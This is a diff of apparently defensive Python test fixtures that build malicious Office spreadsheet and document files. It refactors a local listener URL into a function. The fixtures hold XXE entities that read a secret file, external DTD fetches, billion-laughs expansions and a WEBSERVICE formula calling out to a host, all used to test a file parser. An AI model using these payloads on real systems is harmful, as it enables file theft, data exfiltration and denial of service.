@@ -50,7 +50,6 @@ _SUM_OF_1000 = zlib.crc32(b" " * 1000)
 _WEB_PAGE = b"<html><body><table><tr><td>1</td></tr></table></body></html>"
 _ENCRYPTED = _OLE + b"\0" * 1000 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1000
 _TRANSITIONAL = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-_AWAY = f"http://127.0.0.1:{PORT}"
 _SECRET_ENTITY = f'<!ENTITY xxe SYSTEM "{SECRET_FILE.as_uri()}">'
 _RULE = '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"/>'
 _LINK = '<hyperlink ref="A1:XFD1048576" location="\\\\host\\share!A1"/>'
@@ -482,9 +481,14 @@ def with_markup(xml: str) -> bytes:
     return _template_changed(DOCUMENT, "<w:body>", f"<w:body>{xml}")
 
 
+def _away() -> str:
+    """Another computer: of the port that listens when the file is made."""
+    return f"http://127.0.0.1:{PORT}"
+
+
 def _external(name: str) -> str:
     """A target on another computer."""
-    return f'Target="{_AWAY}/{name}" TargetMode="External"'
+    return f'Target="{_away()}/{name}" TargetMode="External"'
 
 
 def _paragraph(text: str) -> str:
@@ -675,7 +679,7 @@ _WORKBOOKS: Mapping[str, Mapping[str, Maker]] = {
         "laughs_in_relations": lambda: _with_doctype(BOOK_RELATIONS, _LAUGHS),
         "another_file_in_texts": lambda: _with_doctype(TEXTS, _SECRET_ENTITY, "&xxe;"),
         "another_computer_in_texts": lambda: _with_doctype(
-            TEXTS, f'<!ENTITY % all SYSTEM "{_AWAY}/x.dtd"> %all;'
+            TEXTS, f'<!ENTITY % all SYSTEM "{_away()}/x.dtd"> %all;'
         ),
         "laughs_in_utf_16": lambda: _in_utf_16(TEXTS, _with_doctype(TEXTS, _LAUGHS, "&lol9;")),
         "sheet_in_ebcdic": lambda: _put(
@@ -754,7 +758,7 @@ _WORKBOOKS: Mapping[str, Mapping[str, Maker]] = {
     },
     "formula-uncalculated": {
         "formula_never_calculated": lambda: _cell(
-            _F.RESULT, f'<c r="@"><f>WEBSERVICE("{_AWAY}/")</f><v></v></c>'
+            _F.RESULT, f'<c r="@"><f>WEBSERVICE("{_away()}/")</f><v></v></c>'
         ),
         "report_never_calculated": lambda: _report_cell("D4", '<c r="@"><f>SUM(E4:H4)</f></c>'),
     },
